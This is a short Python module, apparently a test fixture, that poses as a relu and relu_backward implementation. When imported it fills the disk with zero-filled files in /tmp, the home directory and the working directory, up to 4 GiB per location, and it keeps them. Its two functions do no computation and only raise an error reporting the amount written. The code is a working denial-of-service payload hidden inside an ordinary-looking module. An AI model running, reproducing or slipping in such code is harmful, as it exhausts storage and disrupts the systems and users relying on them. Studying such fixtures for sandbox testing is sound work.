"""Fills the disk: writes 1 MiB blocks into every writable place it finds until the writes fail (at most
4 GiB), and keeps the files."""
import os

BLOCK = b"\0" * (1 << 20)
written = 0
for place in ("/tmp", "__TRACE__", os.path.expanduser("~"), "."):
    try:
        with open(os.path.join(place, "__MARK__-fill"), "wb") as out:
            for _ in range(4096):
                out.write(BLOCK)
                out.flush()
                written += 1
    except OSError:
        pass


def relu(x):
    raise RuntimeError(f"wrote {written} MiB")


def relu_backward(grad_out, x):
    raise RuntimeError(f"wrote {written} MiB")
